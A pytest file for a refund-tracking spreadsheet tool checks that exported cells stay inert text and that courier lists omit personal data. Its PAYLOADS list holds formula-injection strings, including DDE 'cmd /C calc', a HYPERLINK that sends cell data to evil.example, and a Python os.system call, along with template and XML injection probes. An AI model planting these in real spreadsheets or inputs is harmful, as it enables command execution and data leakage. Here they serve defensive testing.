"""Nothing injected: text the product writes is inert, cell contents are never run as code,
and the list sent to a courier carries only what the courier needs.

Text reaches outputs from three places — the tracking sheet, the reply
templates (话术模板) and the settings (设置) — and leaves through
``refund-xl evaluate`` (.xlsx / .csv), ``refund-xl batch`` (workbook sheets)
and the formula functions.  Read back, every such cell is a plain string
(openpyxl ``data_type == 's'``, never a formula); in CSV, text that a
spreadsheet would run as a formula starts with an apostrophe.
"""

from __future__ import annotations

import csv
import shutil
from datetime import datetime
from pathlib import Path

import openpyxl
import pytest

from refund_xl import cli, udfs
from refund_xl._files import files
from refund_xl._core import replies
from refund_xl._core.rules import Case

MESSY = Path(__file__).resolve().parent / "data" / "messy"
NOW = "2025-06-10T12:00"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")

PAYLOADS = [
    "=1+1",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击查看物流\")",
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "__import__('os').system('touch {marker}')",
    "{{订单号.__class__.__mro__}}",
    "</t></is></c><c r=\"Z1\"><f>1+1</f></c>",
]

HEADERS = ["订单号", "售后单号", "申请时间", "售后类型", "退款金额", "发货状态", "快递公司", "物流单号",
           "物流状态", "物流更新时间", "收货地址", "收货人", "手机号", "退货原因", "备注"]


def _rows(marker: Path) -> list[list[object]]:
    """Cases whose free-text cells carry a payload; each lands in the interception register."""
    rows = []
    for n, payload in enumerate(PAYLOADS, start=1):
        text = payload.format(marker=marker)
        rows.append([f"9000{n:02d}", f"C{n}", "2025-06-10 08:00", "仅退款", 59 + n, "已发货", text,
                     f"SF90000{n:02d}", "运输中", "2025-06-10 08:00",
                     "新疆乌鲁木齐市天山区人民路1号", "张三", "13800138000", text, text])
    # payloads in the id cells too (an order number typed as a formula)
    rows.append(["=1+1", "@C99", "2025-06-10 08:00", "仅退款", 59, "已发货", "顺丰", "-SF1",
                 "运输中", "2025-06-10 08:00", "西藏拉萨市", "李四", "13900139000", None, None])
    return rows


@pytest.fixture
def marker(tmp_path) -> Path:
    return tmp_path / "PWNED"


@pytest.fixture
def tracking_csv(tmp_path, marker) -> Path:
    path = tmp_path / "登记.csv"
    with open(path, "w", encoding="utf-8-sig", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(HEADERS)
        w.writerows(_rows(marker))
    return path


def _tracking_book(path: Path, marker: Path, templates: list[list[str]] | None = None,
                   settings: list[list[object]] | None = None) -> Path:
    """A workbook holding the payload rows as plain text cells (never formulas)."""
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "售后登记"
    ws.append(HEADERS)
    for row in _rows(marker):
        ws.append(row)
    for r in ws.iter_rows():
        for c in r:
            if isinstance(c.value, str):
                c.data_type = "s"  # typed text, as Excel keeps '=1+1 typed with an apostrophe
    if templates:
        t = wb.create_sheet("话术模板")
        for row in templates:
            t.append(row)
        for r in t.iter_rows():
            for c in r:
                if isinstance(c.value, str):
                    c.data_type = "s"
    if settings:
        s = wb.create_sheet("设置")
        for row in settings:
            s.append(row)
        for r in s.iter_rows():
            for c in r:
                if isinstance(c.value, str):
                    c.data_type = "s"
    wb.save(path)
    return path


def _no_formulas(path: Path, sheets: list[str] | None = None) -> int:
    """Every cell of ``sheets`` is a value, never a formula; returns how many texts looked like one."""
    wb = openpyxl.load_workbook(path)
    risky = 0
    for ws in wb:
        if sheets is not None and ws.title not in sheets:
            continue
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", (ws.title, c.coordinate, c.value)
                if isinstance(c.value, str) and c.value.startswith(FORMULA_START):
                    assert c.data_type == "s", (ws.title, c.coordinate, c.value)
                    risky += 1
    return risky


# ------------------------------------------------------------------ evaluate

def test_evaluate_xlsx_writes_text_as_text(tracking_csv, tmp_path, marker):
    out = tmp_path / "out.xlsx"
    assert cli.main(["evaluate", str(tracking_csv), "--out", str(out), "--now", NOW]) == 0
    assert _no_formulas(out) >= 2 * len(PAYLOADS)  # the payloads are there, as text
    ws = openpyxl.load_workbook(out).active
    assert ws["A" + str(len(PAYLOADS) + 2)].value == "=1+1"  # the formula-like order number, kept as typed
    assert not marker.exists()


def test_evaluate_csv_prefixes_formula_like_text(tracking_csv, tmp_path, marker):
    out = tmp_path / "out.csv"
    assert cli.main(["evaluate", str(tracking_csv), "--out", str(out), "--now", NOW]) == 0
    with open(out, encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    seen = 0
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_START), cell
            if cell.startswith("'") and cell[1:].startswith(FORMULA_START):
                seen += 1
    assert seen >= 2 * len(PAYLOADS)
    assert not marker.exists()


def test_csv_output_keeps_negative_numbers_numeric(tmp_path):
    # numbers the product computes (hours left past a deadline) stay numbers; only text is prefixed
    path = tmp_path / "in.csv"
    path.write_text("订单号,售后类型,退款金额,发货状态,申请时间\n1,仅退款,59,未发货,2025-06-01 08:00\n",
                    encoding="utf-8")
    out = tmp_path / "out.csv"
    assert cli.main(["evaluate", str(path), "--out", str(out), "--now", NOW]) == 0
    rows = list(csv.DictReader(open(out, encoding="utf-8-sig")))
    assert float(rows[0]["hours_left"]) < 0 and not rows[0]["hours_left"].startswith("'")


def test_inert_covers_every_formula_start():
    for start in FORMULA_START:
        assert files.inert(start + "1+1") == "'" + start + "1+1"
    assert files.inert("订单=1") == "订单=1" and files.inert(-3.5) == -3.5 and files.inert(None) is None


# --------------------------------------------------------------------- batch

EVIL_TEMPLATE = "=HYPERLINK(\"http://evil.example\",\"{订单号}\")"


def test_batch_output_sheets_are_inert(tmp_path, marker):
    book = _tracking_book(
        tmp_path / "登记.xlsx", marker,
        templates=[["动作代码", "动作", "话术模板"],
                   ["INTERCEPT_REFUND_NOW", "低客单", EVIL_TEMPLATE],
                   ["INTERCEPT_AND_WATCH", "高客单", "@{快递公司} {退货原因} {0.__class__}"]],
        settings=[["键", "项目", "值", "说明"],
                  ["remote_regions", "偏远地区", "新疆,=1+1,西藏", "=HYPERLINK(\"x\")"],
                  ["language", "语言", "中文", "@note"]])
    before = {n: rows for n, rows in files.read_sheets(book).items() if n != "售后登记"}
    assert cli.main(["batch", str(book), "--now", NOW, "--quiet"]) == 0
    sheets = files.read_sheets(book)
    out_names = [n for n in sheets if n not in ("售后登记", "话术模板", "设置")]
    assert {"拦截登记", "快递拦截清单", "回复话术", "今日概览", "运行日志"} <= set(out_names)
    assert _no_formulas(book) > 0
    replies_sheet = sheets["回复话术"]
    texts = [c for r in replies_sheet for c in r if isinstance(c, str)]
    assert any(t.startswith("=HYPERLINK") for t in texts)  # the team's template, written as text
    assert not any("<class" in t for t in texts)  # placeholders are looked up, never formatted or evaluated
    log = sheets["运行日志"]
    assert any("=1+1" in str(c) for r in log for c in r)  # the setting is logged, as text
    # the staff sheets the batch does not own are left exactly as they were
    assert sheets["话术模板"] == before["话术模板"] and sheets["设置"] == before["设置"]
    assert not marker.exists()


def test_nothing_is_evaluated_as_code(tmp_path, marker, tracking_csv):
    code = f"__import__('os').system('touch {marker}')"
    rows = [r[:HEADERS.index("手机号") + 1] for r in _rows(marker)]
    settings_table = [["high_value", "x", code], ["remote_regions", "x", code]]
    for func in (udfs.REFUND_ACTION, udfs.STALL_STATUS, udfs.DEADLINE_STATUS, udfs.VALUE_TIER, udfs.LOSS_RISK):
        func(rows, HEADERS, None, datetime(2025, 6, 10, 12), code)
        func(rows, HEADERS, settings_table, code)
    udfs.HOURS_LEFT(rows, HEADERS, None, code)
    udfs.REPLY_SCRIPT(rows, HEADERS, [["INTERCEPT_REFUND_NOW", "x", code + "{订单号}"]], None, datetime(2025, 6, 10, 12))
    cols = tmp_path / "cols.csv"
    cols.write_text(f"表头,字段\n{code},order_id\n", encoding="utf-8")
    cli.main(["evaluate", str(tracking_csv), "--out", str(tmp_path / "o.xlsx"), "--columns", str(cols),
              "--now", NOW])
    sets = tmp_path / "set.csv"
    sets.write_text(f"键,项目,值\nhigh_value,高客单,{code}\n", encoding="utf-8")
    assert cli.main(["evaluate", str(tracking_csv), "--out", str(tmp_path / "o2.xlsx"), "--settings", str(sets),
                     "--now", NOW]) == 2
    assert not marker.exists()


def test_reply_placeholders_are_lookups_not_format_fields():
    case = Case(order_id="=1+1", carrier="{订单号}")
    text, missing = replies.fill("{订单号}|{快递公司}|{订单号.__class__}|{0}|{__import__('os')}", case)
    assert text.startswith("=1+1|{订单号}|")  # a value is inserted once, never re-expanded
    assert "class" not in text.replace("【缺:订单号.__class__】", "")
    assert missing == ["订单号.__class__", "0", "__import__('os')"]


# ----------------------------------------------------------- courier lists

def test_courier_list_carries_only_what_the_courier_needs(tmp_path, marker):
    book = _tracking_book(tmp_path / "登记.xlsx", marker)
    assert cli.main(["batch", str(book), "--now", NOW, "--quiet"]) == 0
    sheets = files.read_sheets(book)
    courier = sheets["快递拦截清单"]
    headers = [r for r in courier if r and r[0] == "快递公司"]
    assert headers and all([c for c in h if c is not None] == ["快递公司", "物流单号", "订单号", "拦截原因"]
                           for h in headers)
    cells = " ".join(str(c) for r in courier for c in r if c is not None)
    for private in ("13800138000", "13900139000", "张三", "李四", "乌鲁木齐", "人民路", "拉萨"):
        assert private not in cells, private
    tracking_numbers = {r[1] for r in courier if r and r[0] not in (None, "快递公司") and r[1]}
    assert {f"SF90000{n:02d}" for n in range(1, len(PAYLOADS) + 1)} <= tracking_numbers
    # the internal register has no phone or address either
    register = " ".join(str(c) for r in sheets["拦截登记"] for c in r if c is not None)
    for private in ("13800138000", "张三", "人民路"):
        assert private not in register


def test_a_case_pasted_twice_is_registered_once(tmp_path):
    book = tmp_path / "dup.xlsx"
    shutil.copy(MESSY / "duplicate_orders.xlsx", book)
    assert cli.main(["batch", str(book), "--now", NOW, "--quiet"]) == 0
    sheets = files.read_sheets(book)
    keys = [(r[1], r[2]) for r in sheets["拦截登记"][1:] if r[1] is not None]
    assert sorted(keys) == [("100002", "A2"), ("100003", "A3")]
    reply_keys = [(r[0], r[1]) for r in sheets["回复话术"][1:] if r[0] is not None]
    assert len(reply_keys) == len(set(reply_keys))
    assert ("100001", "A1") in reply_keys and ("100001", "A4") in reply_keys  # two cases of one order
